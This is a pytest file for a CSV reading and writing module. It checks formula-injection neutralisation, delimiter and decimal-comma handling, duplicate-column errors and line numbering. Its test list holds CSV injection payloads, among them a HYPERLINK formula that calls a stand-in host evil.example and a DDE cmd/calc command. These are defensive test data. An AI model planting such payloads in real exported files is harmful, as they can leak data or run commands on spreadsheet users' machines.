"""What every CSV the product reads or writes shares (caleido/loaders/csv_format.py): cells a spreadsheet never runs
as a formula, with plain numbers left numbers, and tables read whatever delimiter a spreadsheet wrote, with a
repeated column refused and each row's real line number."""

from __future__ import annotations

import csv
import io

import pytest

from caleido.errors import InvalidData
from caleido.loaders.csv_format import read_cell, read_table, spreadsheet_cell

NEUTRALISED = [
    '=HYPERLINK("http://evil.example/?x","klik hier")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "=1+1",
    "\t=1",
    "\r=1",
    "-",
    "-inf",
    "-١٢",  # Arabic-Indic digits: not a number to a spreadsheet
    "'=1+1",  # an apostrophe already there is kept: the cell reads back as this text
    "''@x",
]
PLAIN = ["-0.16", "+1", "-1e-3", "0.5", ".5", "-5.", "'s-Hertogenbosch", "''s-Gravenhage", "x=1", "", "'"]


@pytest.mark.parametrize("text", NEUTRALISED)
def test_a_cell_a_spreadsheet_would_run_gets_an_apostrophe_and_reads_back(text: str) -> None:
    cell = spreadsheet_cell(text)
    assert cell == "'" + text
    assert read_cell(cell) == text


@pytest.mark.parametrize("text", PLAIN)
def test_numbers_and_harmless_text_are_written_as_they_are(text: str) -> None:
    assert spreadsheet_cell(text) == text
    assert read_cell(text) == text


def test_values_that_are_not_text() -> None:
    assert spreadsheet_cell(-0.16) == "-0.16"  # C3: a negative effect size stays a number
    assert spreadsheet_cell(-3) == "-3"
    assert spreadsheet_cell(None) == ""
    assert spreadsheet_cell(["=a", "b"]) == '["=a", "b"]'  # a JSON list never starts a formula


def test_a_number_written_with_an_apostrophe_before_reads_back() -> None:
    assert read_cell("'-0.16") == "-0.16"  # exports made before plain numbers were left alone


@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_the_delimiter_comes_from_the_header(delimiter: str) -> None:
    out = io.StringIO()
    csv.writer(out, delimiter=delimiter).writerows([["a", "b", "c"], ["1,5", "x;y", "z\tq"]])
    table = read_table("t.csv", out.getvalue())
    assert (table.header, table.rows, table.delimiter) == (["a", "b", "c"], [(2, ["1,5", "x;y", "z\tq"])], delimiter)


@pytest.mark.parametrize(
    ("delimiter", "cell", "number"),
    [
        (";", "0,07", "0.07"),
        (";", "-0,16", "-0.16"),
        ("\t", ",5", ".5"),
        (";", "0.07", "0.07"),
        (";", "1.234,5", "1.234,5"),  # thousands and decimals: left for the number check to refuse
        (",", "0,07", "0,07"),  # in a comma file a comma is never a decimal sign
    ],
)
def test_a_decimal_comma_is_a_decimal_point_where_commas_do_not_separate_cells(
    delimiter: str, cell: str, number: str
) -> None:
    table = read_table("t.csv", delimiter.join(["a", "b"]) + "\n")
    assert table.number(cell) == number


def test_a_column_named_twice_is_refused_naming_it() -> None:
    with pytest.raises(InvalidData) as caught:
        read_table("dup.csv", "factor_name,outcome,factor_name\nfirst name,y,second name\n")
    (problem,) = caught.value.problems
    assert (problem.file, problem.location, problem.field) == ("dup.csv", "line 1", "factor_name")
    assert "named twice (columns 1 and 3)" in problem.message


def test_rows_carry_the_line_they_start_on() -> None:
    text = '\ufeffa,b\r\n1,"two\r\nlines"\r\n\r\n , \r\n3,4\r\n'
    table = read_table("t.csv", text)
    assert table.rows == [(2, ["1", "two\r\nlines"]), (6, ["3", "4"])]  # blank rows are left out


def test_text_that_is_not_csv_names_the_line() -> None:
    with pytest.raises(InvalidData) as caught:
        read_table("t.csv", 'a,b\n1,2\n3,"open\n')
    (problem,) = caught.value.problems
    assert problem.location == "line 3" and "not valid CSV" in problem.message


def test_a_lone_carriage_return_ends_the_header_line() -> None:
    # Schemathesis found it: the header's delimiter was guessed from a line still holding a lone \r, and the
    # csv module's error escaped as a 500 (the reader itself takes a lone \r as a line break).
    table = read_table("cr.csv", "a\rb;c\n1;2\n")
    assert table.header == ["a"]
    assert [cells for _, cells in table.rows] == [["b;c"], ["1;2"]]
